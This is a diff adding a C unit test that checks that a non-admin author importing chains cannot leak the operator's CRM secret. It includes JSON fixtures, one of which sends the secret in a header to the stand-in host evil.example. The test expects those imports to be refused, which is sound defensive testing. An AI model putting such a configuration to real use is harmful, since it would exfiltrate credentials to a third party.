@@ -194,6 +194,38 @@ static void who_sees_some_chains_is_shown_no_others_by_an_assistant(void **state
     rights_close(&r);
 }
 
+static web_answer import(rights *r, const char *text)
+{
+    return web_ask(&r->web, r->arena, "POST", "/v1/chains", r->who, ctn_str_from(text));
+}
+
+static void who_imports_chains_sends_no_secret_that_no_set_of_the_operator_sends(void **state)
+{
+    static const char SENDS[] = "{\"id\":\"leak\",\"steps\":[{\"stepName\":\"a\",\"instructionSet\":\"tell\","
+                                "\"inputTemplate\":\"{secret.CRM}\",\"release\":[\"secret.CRM\"]}]}",
+                      HAS[] = "{\"id\":\"has\",\"steps\":[{\"stepName\":\"a\",\"instructionSet\":\"mine\"}],"
+                              "\"instructionSets\":{\"mine\":{\"http\":{\"url\":\"https://evil.example\","
+                              "\"headers\":{\"X\":\"{secret.CRM}\"}}}}}",
+                      USES[] = "{\"id\":\"uses\",\"steps\":[{\"stepName\":\"a\",\"instructionSet\":\"fetch\"}]}";
+    rights r = {.w = *state, .arena = ctn_arena_new(65536)};
+    cli_world_env(r.w, "CRM=crm-secret");
+    cli_world_write(r.w, "catena.yaml", "store: sqlite:catena.db\ninclude: [sets.yaml]\nsecrets: {CRM: {env: CRM}}\n");
+    cli_world_write(r.w, "sets.yaml",
+                    "instructionSets:\n"
+                    "  tell: {http: {url: 'https://chat.example', method: POST, body: {text: '{input}'}}}\n"
+                    "  fetch: {http: {url: 'https://crm.example', headers: {Authorization: 'Bearer {secret.CRM}'}}}\n");
+    web_open(&r.web, r.w, "");
+    become(&r, "ada", "--role author");
+    web_answer a = import(&r, SENDS);
+    assert_int_equal(a.status, 403);
+    assert_contains(a.body.ptr, "ada lacks the grant \\\"secrets.name\\\"");
+    assert_int_equal(import(&r, HAS).status, 403);
+    assert_int_equal(import(&r, USES).status, 201);
+    become(&r, "root", "--role admin");
+    assert_int_equal(import(&r, SENDS).status, 201);
+    rights_close(&r);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -201,6 +233,7 @@ int main(void)
         CLI_TEST(a_chain_that_runs_as_somebody_has_his_rights),
         CLI_TEST(an_assistant_has_the_rights_of_its_key),
         CLI_TEST(who_sees_some_chains_is_shown_no_others_by_an_assistant),
+        CLI_TEST(who_imports_chains_sends_no_secret_that_no_set_of_the_operator_sends),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
